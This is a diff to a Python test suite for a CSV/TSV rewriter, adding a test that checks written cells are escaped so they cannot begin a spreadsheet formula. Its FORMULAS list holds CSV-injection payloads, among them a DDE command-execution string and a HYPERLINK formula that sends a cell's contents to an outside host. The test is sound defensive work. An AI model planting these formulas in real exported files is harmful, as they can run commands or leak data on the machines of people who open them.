@@ -71,9 +71,54 @@ def test_csv_round_trip(rows: list[tuple[str, str]], every: bool, folder: Path) 
     source = write(folder, "round.csv", stream.getvalue().encode())
     assert texts_of(source) == [text for text, _ in rows]
     assert rewrite(source, folder / "o.csv") == source.path.read_bytes()
-    changed = rewrite(source, folder / "o.csv", {t: f'{t}",\n' for t, _ in rows})
+    changed = rewrite(source, folder / "o.csv", {t: f'<{t}",\n' for t, _ in rows})
     again = list(csv.reader(io.StringIO(changed.decode(), newline="")))[1:]
-    assert again == [[f'{t}",\n', x] for t, x in rows]
+    assert again == [[f'<{t}",\n', x] for t, x in rows]
+
+
+#: Cells that spreadsheets have run, and forms of numbers, which they have not.
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.org?x="&A1,"눌러")',
+    "+82 10-1234-5678",
+    "-최고!",
+    "@SUM(1+1)*2",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠가",
+    "+",
+    "--1",
+    "-1+1",
+)
+PLAIN = ("-1", "+82", "-0.5e-3", "3", "가=1", " =1", "[phone]", "'=1", "")
+
+
+@pytest.mark.parametrize("name", ["a.csv", "a.tsv"])
+@pytest.mark.parametrize("cell", [*FORMULAS, *PLAIN])
+def test_a_cell_that_is_changed_or_added_begins_no_formula(
+    tmp_path: Path, name: str, cell: str
+) -> None:
+    quoted = name.endswith(".csv")
+    if not quoted and cell[:1] in ("\t", "\n"):
+        return  # has no room in a file without quoting
+    mark = "," if quoted else "\t"
+    source = write(tmp_path, name, f"text{mark}x\na{mark}=2+2\n=3{mark}b\n".encode())
+    added = pa.schema([("new", pa.string())])
+    with open_writer(source, tmp_path / f"o{name}", adds=added) as writer:
+        for part in read(source, whole=True)[0]:
+            texts = pa.array([cell, *part.texts.to_pylist()[1:]])
+            writer.write(part, texts, {"new": pa.array([None, cell])})
+    text = (tmp_path / f"o{name}").read_bytes().decode()
+    way = csv.QUOTE_MINIMAL if quoted else csv.QUOTE_NONE
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=mark, quoting=way))
+    written = f"'{cell}" if cell in FORMULAS else cell
+    if quoted or "\r" not in cell:
+        assert rows == [["text", "x", "new"], [written, "=2+2", ""], ["=3", "b", written]]
 
 
 @given(texts=st.lists(TEXT, max_size=6))
